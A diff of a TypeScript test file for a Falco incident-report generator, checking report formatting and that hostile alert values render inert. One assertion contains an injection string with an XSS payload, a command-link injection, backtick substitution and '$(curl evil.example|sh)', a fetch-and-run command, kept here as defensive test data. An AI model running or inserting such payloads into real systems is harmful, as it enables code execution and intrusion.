@@ -5,15 +5,15 @@ import { createAlertsService } from '../../server/src/service/alerts';
 import { playbookFor } from '../../server/src/knowledge';
 import * as fs from 'node:fs';
 import { spawnSync } from 'node:child_process';
-import { TestHost, fakeRules, fixture, ruleSummaries, hostileProblems, corpusExists, STABLE_RULES, FIXTURES } from '../fixtures/alerts/helpers';
+import { TestHost, fakeRules, fixture, ruleSummaries, hostileProblems, outsideCode, corpusExists, STABLE_RULES, FIXTURES } from '../fixtures/alerts/helpers';
 
 test('the incident report has a summary table, what happened, why it matters, MITRE, investigation, mitigations and tuning', () => {
   const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [];
   const s = createAlertsService(new TestHost(), fakeRules(rules));
   const report = s.report(fixture('falco-0.44.json'), 'file:///logs/events.json');
-  assert.match(report, /^# Falco incident report\n\n3 alerts from `events\.json`, 2024\\-06\\-10 14\\:45\\:13\\\.552380417 UTC to /);
+  assert.match(report, /^# Falco incident report\n\n3 alerts from `events\.json`, `2024-06-10 14:45:13\.552380417 UTC` to /);
   assert.match(report, /\| # \| Line \| Time \| Priority \| Rule \| Host \| Source \|/);
-  assert.match(report, /\| 1 \| 1 \| .* \| Critical \| Drop and execute new binary in container \| node\\-a \| syscall \|/);
+  assert.match(report, /\| 1 \| 1 \| `2024-06-10 14:45:13\.552380417 UTC` \| Critical \| Drop and execute new binary in container \| `node-a` \| syscall \|/);
   for (const h of ['### What happened', '### Why it matters', '### MITRE ATT&CK', '### Investigation', '### Mitigations', '### Tuning']) assert.ok(report.includes(h), h);
   // Most severe rule first; fields with their values.
   assert.ok(report.indexOf('## 1. Drop and execute') < report.indexOf('## 2. Create Symlink'));
@@ -35,7 +35,9 @@ test('a hostile alert renders inert in the report, and its values reach shell co
   const s = createAlertsService(new TestHost(), fakeRules(rules));
   const report = s.report(fixture('falco-hostile.log'), 'file:///logs/h.log');
   assert.deepEqual(hostileProblems(report), []);
-  assert.ok(!report.includes('<b>node</b>') || report.includes('\\<b\\>node\\</b\\>'));
+  // The hostile host name sits in code spans only (table cell and summary line), never as raw HTML.
+  assert.ok(!outsideCode(report).includes('<b>'));
+  assert.ok(report.includes('| `<b>node</b>` |'));
   for (const block of report.match(/```sh\n[\s\S]*?\n```/g) ?? []) {
     if (block.includes('$(curl')) assert.ok(block.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'"), block);
   }
